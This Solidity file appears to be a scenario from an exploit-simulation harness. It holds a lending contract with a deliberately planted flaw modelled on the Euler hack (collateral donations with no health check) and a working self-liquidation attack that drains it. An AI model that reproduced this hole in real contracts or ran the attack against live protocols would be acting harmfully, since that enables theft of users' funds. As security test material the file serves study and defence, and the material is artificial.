// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// A lender whose borrowers may give their collateral away, and whose liquidators get a rising discount (after Euler).
contract GenerousLender {
    IERC20 public immutable usd;
    uint256 public cash;
    uint256 public reserves;
    mapping(address => uint256) public supplied;
    mapping(address => uint256) public debt;

    event Supply(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);
    event Liquidate(address indexed liquidator, address indexed violator, uint256 repay, uint256 yield_);

    constructor(IERC20 usd_) {
        usd = usd_;
    }

    function deposit(uint256 amount) external {
        usd.transferFrom(msg.sender, address(this), amount);
        supplied[msg.sender] += amount;
        emit Supply(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        supplied[msg.sender] -= amount;
        require(healthy(msg.sender), "health");
        usd.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    /// Supplies and borrows the same at once.
    function leverage(uint256 amount) external {
        supplied[msg.sender] += amount;
        debt[msg.sender] += amount;
        require(healthy(msg.sender), "health");
        emit Supply(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        usd.transferFrom(msg.sender, address(this), amount);
        debt[msg.sender] -= amount;
        emit Repay(msg.sender, amount);
    }

    function healthy(address who) public view returns (bool) {
        return supplied[who] * 95 >= debt[who] * 100;
    }

    /// Nobody asks whether the giver is still healthy.
    function donateToReserves(uint256 amount) external {
        supplied[msg.sender] -= amount;
        reserves += amount;
    }

    /// Takes over the debt for the collateral at a discount of up to a fifth of the debt.
    function liquidate(address violator) external {
        require(!healthy(violator), "healthy");
        uint256 taken = supplied[violator];
        uint256 owed = taken * 80 / 100;
        if (owed > debt[violator]) owed = debt[violator];
        (supplied[violator], debt[violator]) = (0, debt[violator] - owed);
        supplied[msg.sender] += taken;
        debt[msg.sender] += owed;
        emit Liquidate(msg.sender, violator, owed, taken);
    }
}

contract SelfLiquidationScene is Scene {
    Token public usd;
    GenerousLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        lender = new GenerousLender(IERC20(address(usd)));
        usd.mint(address(this), 3_000_000e18);
        usd.approve(address(lender), type(uint256).max);
        lender.deposit(3_000_000e18);
        _protect(address(lender));
        _loan(IERC20(address(usd)), 3_000_000e18);
        loot0 = IERC20(address(usd));
        atomic = true;
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 500_000e18, address(lender));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 5;
        uint256 held = lender.supplied(who);
        uint256 owed = lender.debt(who);
        if (kind == 0 && held > 0 && owed == 0) {
            return (address(lender), 0, abi.encodeCall(GenerousLender.leverage, (held / 2)));
        }
        if (kind == 1 && owed > 0) return (address(lender), 0, abi.encodeCall(GenerousLender.repay, (owed / 2 + 1)));
        if (kind == 2 && owed == 0 && held > 0) return (address(lender), 0, abi.encodeCall(GenerousLender.withdraw, (held)));
        return (address(lender), 0, abi.encodeCall(GenerousLender.deposit, (_amount(dice, 100e18, 9_000e18))));
    }
}

/// The second account, which liquidates the first.
contract Liquidator {
    function go(GenerousLender lender, IERC20 usd, address violator, address to) external {
        lender.liquidate(violator);
        uint256 out = lender.supplied(address(this)) - lender.debt(address(this)) * 100 / 95 - 1;
        uint256 there = usd.balanceOf(address(lender));
        lender.withdraw(out < there ? out : there);
        usd.transfer(to, usd.balanceOf(address(this)));
    }
}

contract SelfLiquidationAttack is Attack {
    GenerousLender private immutable lender;

    constructor(SelfLiquidationScene scene) Attack(scene) {
        lender = scene.lender();
    }

    function _act(uint256, uint256, uint256) internal override {
        loanToken.approve(address(lender), type(uint256).max);
        lender.deposit(loanAmount);
        lender.leverage(loanAmount * 10);
        lender.donateToReserves(loanAmount * 2);
        new Liquidator().go(lender, loot0, address(this), address(this));
    }
}
